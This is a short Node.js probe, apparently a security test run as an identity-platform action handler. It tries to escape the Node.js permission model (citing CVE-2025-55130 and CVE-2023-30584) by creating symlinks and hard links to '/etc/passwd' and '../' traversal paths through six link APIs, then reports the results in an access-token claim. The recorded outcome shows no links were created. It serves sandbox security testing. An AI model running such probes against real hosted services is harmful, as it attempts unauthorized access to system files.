// outcome: completed; claim made=[]; beside served
// CVE-2025-55130 (and CVE-2023-30584): a relative symbolic link leads where the permission model did not look.
const fs = require('node:fs')
const targets = [
  '../../../../etc/passwd',
  '/etc/passwd',
  '..',
  './../../../../../../etc',
  'action.js/../../../../../etc/passwd',
  '',
]
const ways = {
  symlinkSync: (target, path) => fs.symlinkSync(target, path),
  'symlinkSync of a Buffer': (target, path) => fs.symlinkSync(Buffer.from(target), Buffer.from(path)),
  'symlinkSync, typed': (target, path) => fs.symlinkSync(target, path, 'dir'),
  'promises.symlink': (target, path) => fs.promises.symlink(target, path),
  symlink: (target, path) =>
    new Promise((resolve, reject) => fs.symlink(target, path, (error) => (error ? reject(error) : resolve()))),
  linkSync: (target, path) => fs.linkSync(target, path),
}
exports.onExecuteCredentialsExchange = async (_event, api) => {
  const made = []
  for (const [index, target] of targets.entries()) {
    for (const [name, make] of Object.entries(ways)) {
      const path = `${__dirname}/link-${index}-${name.length}`
      try {
        await make(target, path)
        made.push(`${name} ${target}`)
      } catch {
        // Refused.
      }
      if (fs.existsSync(path)) made.push(path)
    }
  }
  api.accessToken.setCustomClaim('made', made)
}
